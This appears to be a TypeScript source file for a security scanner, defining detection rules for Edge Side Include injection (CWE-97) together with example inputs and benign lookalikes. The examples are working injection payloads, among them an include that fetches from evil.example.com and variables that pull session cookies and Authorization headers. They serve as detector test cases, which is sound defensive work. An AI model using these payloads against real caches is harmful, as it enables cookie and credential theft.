import { serverInclude } from '../../grammars/html/server-include.ts';
import { confidence } from '../../placement/confidence.ts';
import { foundBy } from '../../placement/evidence.ts';
import { charClass } from '../../text/char-class.ts';
import { wordSet } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/** `<esi:include src="http://…"/>`, `<esi:debug/>`, `<!--esi …-->` */
export const edge: ValueRule = {
  id: 'ssi.edge',
  cwe: 'CWE-97',
  severity: 'high',
  score: confidence.certain,
  message: 'is an Edge Side Include that a cache would carry out',
  trigger: { literals: [['<esi:', '</esi:', '<!--esi']] },
  judge: (subject) =>
    subject
      .tokens(serverInclude)
      .find(({ kind, name }) => kind === 'esi-comment' || (kind === 'esi' && elements.has(name))),
  examples: [
    '<esi:include src="http://evil.example.com/x"/>',
    '<esi:vars>$(HTTP_COOKIE{session})</esi:vars>',
    'x<esi:debug/>',
    '<!--esi $(HTTP_HOST) -->',
    '<ESI:INLINE name="/a.html" fetchable="yes">b</ESI:INLINE>',
    '<esi:assign name="a" value="b"/>',
  ],
  lookalikes: [
    'ESI stands for Edge Side Includes',
    '<esi> is my nick name',
    '<!-- esi is off -->',
    'xmlns:esi="http://www.edge-delivery.org/esi/1.0"',
  ],
};

const elements: ReadonlySet<string> = wordSet(
  'include inline debug vars assign remove comment try attempt except choose when',
  'otherwise text eval function return foreach break environment dictionary',
);

/** `$(HTTP_COOKIE{session})`: a variable of Edge Side Includes, which a cache fills in. */
export const edgeVariable: ValueRule = {
  id: 'ssi.edge-variable',
  cwe: 'CWE-97',
  severity: 'medium',
  score: confidence.strong,
  message: 'asks a cache to put in a header, cookie or parameter of the request',
  trigger: {
    classes: charClass.dollar | charClass.paren,
    literals: [['$(http_', '$(query_string']],
  },
  examples: ['$(HTTP_COOKIE{session})', 'a$(HTTP_HEADER{Authorization})b', '$(QUERY_STRING)'],
  lookalikes: [
    'export URL=$(HTTP_PROXY)',
    'make: $(HTTP_FLAGS) and $(QUERY_STRING) are variables of mine',
    '$(http_get "$1")',
  ],
  judge(subject): Match | undefined {
    return foundBy(variable.exec(subject.text));
  },
};

const variable =
  /\$\((?:HTTP_[A-Z_]{2,40}|QUERY_STRING)\{['"]?[\w-]{1,60}['"]?(?:\}|\|)|^\$\((?:QUERY_STRING|HTTP_COOKIE|HTTP_HOST|HTTP_REFERER|HTTP_USER_AGENT)\)$/;
